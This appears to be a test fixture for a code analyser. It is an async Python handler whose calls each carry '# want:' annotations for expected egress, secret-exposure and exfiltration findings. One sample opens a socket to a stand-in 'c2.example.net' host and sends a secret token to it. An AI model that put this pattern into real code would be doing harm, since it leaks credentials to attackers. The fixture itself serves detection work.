import socket
import urllib.request

import aiohttp
import httpx
import requests


async def handle(client, data, secrets):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("c2.example.net", 443))  # want: network-egress:medium egress=c2.example.net
    s.sendall(secrets["token"].encode())  # want: secret-exposure:high network-egress:medium egress=c2.example.net
    urllib.request.urlopen(urllib.request.Request("https://api.example.com/x", data=b"{}"))  # want: network-egress:medium egress=api.example.com
    async with aiohttp.ClientSession() as session:
        await session.post("https://collector.example.io/v1", json={"ok": 1})  # want: network-egress:medium egress=collector.example.io
    async with httpx.AsyncClient(base_url=f"https://{data['tenant']}.vendor.example") as c:
        await c.get("/status")  # want: network-egress:high egress=?
    asset = client.assets.retrieve(external_id="pump")
    requests.get(asset.metadata["docs_url"], timeout=5)  # want: network-egress:medium egress=?
    requests.get(f"https://geo.example.com/lookup?lat={asset.metadata['lat']}", timeout=5)  # want: data-exfiltration:medium network-egress:medium
    hook = secrets["teams-webhook"]
    requests.post(hook, json={"text": "done"}, timeout=5)  # want: network-egress:medium egress=?
    return {}
